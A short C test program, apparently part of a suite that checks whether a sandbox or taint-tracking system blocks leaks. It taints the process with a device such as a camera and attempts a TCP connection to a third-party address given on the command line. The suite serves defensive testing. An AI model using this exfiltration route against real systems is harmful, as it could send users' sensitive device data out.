/* tcp_connect.c - attack: a tainted process connects over TCP to a third party and sends. */
#include "attack.h"

#define ROUTE "tcp_connect"

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_taint(ROUTE, argv[1]);
	at_need_inet(ROUTE, argv[2], &ss, &len);
	return at_connect_report(ROUTE, &ss, len, SOCK_STREAM);
}
